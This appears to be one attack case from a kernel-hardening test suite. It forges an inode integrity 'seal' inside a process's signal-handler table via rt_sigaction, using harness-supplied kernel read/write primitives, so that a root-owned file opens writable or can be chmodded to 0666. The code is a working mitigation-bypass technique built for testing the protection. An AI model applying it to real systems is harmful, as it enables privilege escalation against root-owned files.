// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "record_in_handlers", "cred_integrity: the seal of a file is not its own",
       "The program installs signal handlers whose words, in the sealed table that keeps them, are "
       "a record that lets everybody write to root's file, and leads the inode there.",
       "A record is believed in slabs of its own type alone; those of handlers hold what programs "
       "choose.",
       "It opens root's file for writing, or changes its mode.");

#define ACTION_WORDS 4
#define FIRST_SIGNAL 32 /* there and behind all may be handled */
#define SEAL_WORDS 40   /* no less than an inode's seal has */

/* By the places of its members in the kernel's table; the kernel's own order is another. */
static uint64_t words[SEAL_WORDS + 2 * ACTION_WORDS];

static bool control(void)
{
	return is_ordinary();
}

/* As rt_sigaction(2) takes them. */
static void install(int number, const uint64_t *action)
{
	const uint64_t given[] = { action[member("signal_action.handler") / 8],
				   action[member("signal_action.flags") / 8],
				   action[member("signal_action.restorer") / 8],
				   action[member("signal_action.mask") / 8] };

	call4(__NR_rt_sigaction, number, (long)given, 0, 8);
}

/* Of the record three words may be chosen: it begins behind the word of flags. */
static uint64_t first_word(void)
{
	return (member("signal_action.flags") / 8 + 1 + SEAL_WORDS -
		member("inode_seal.record") / 8) %
	       ACTION_WORDS;
}

/* The inode's record as it is, but for its place and the mode. */
static uint64_t forge(uint64_t seal)
{
	const uint64_t process = peek(own_task() + member("task.process"));
	const uint64_t table =
		peek(peek(process + member("process.actions")) + member("signal_actions.table"));
	const uint64_t first = first_word();
	const uint64_t place = table + member("signal_table.action") +
			       (FIRST_SIGNAL - 1) * ACTION_WORDS * 8 + first * 8;
	const uint64_t record = member("inode_seal.record");

	for (uint64_t i = 0; i < SEAL_WORDS; i++)
		words[first + i] = peek(seal + i * 8);
	words[first + record / 8] = place + record;
	*(uint32_t *)((char *)(words + first) + member("inode_seal.mode")) = 0100666;
	for (int i = 0; i < (SEAL_WORDS + ACTION_WORDS) / ACTION_WORDS; i++)
		install(FIRST_SIGNAL + i, words + i * ACTION_WORDS);
	return place;
}

static bool fire(void)
{
	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
	const uint64_t inode = peek(file_struct(own_task(), (int)file) + member("file.inode"));
	const uint64_t before = peek(inode + member("inode.seal"));
	bool opened;

	poke32(inode + member("inode.mode"), 0100666);
	poke(inode + member("inode.seal"), forge(before));
	opened = call3(__NR_open, (long)PUBLIC, O_RDWR, 0) >= 0 ||
		 call2(__NR_fchmod, file, 0666) == 0;
	poke(inode + member("inode.seal"), before);
	return opened;
}

static void victim(void)
{
	victim_waits();
}
